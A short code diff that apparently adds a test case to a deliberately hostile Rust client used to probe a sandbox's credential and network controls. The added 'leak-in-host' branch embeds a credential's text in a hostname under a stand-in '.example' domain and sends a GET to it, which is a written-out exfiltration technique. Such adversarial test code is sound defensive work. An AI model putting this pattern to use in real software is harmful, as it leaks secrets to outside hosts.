@@ -243,6 +243,16 @@ impl Client for HostileClient {
                 Err(credentials::CredentialError::Denied(m)) => Err(Error::access_denied(m)),
                 Err(e) => Err(Error::other(format!("{e:?}"))),
             },
+            // Issue 23 item 11 (branch storm): spells a credential as a host no grant
+            // allows, so the refusal the host logs would quote it.
+            "leak-in-host" => {
+                let text = credential_text(arg)?;
+                http::send(&http::Request::new(
+                    "GET",
+                    format!("http://{text}.example/"),
+                ))?;
+                ok("sent")
+            }
             _ => Ok(None),
         }
     }
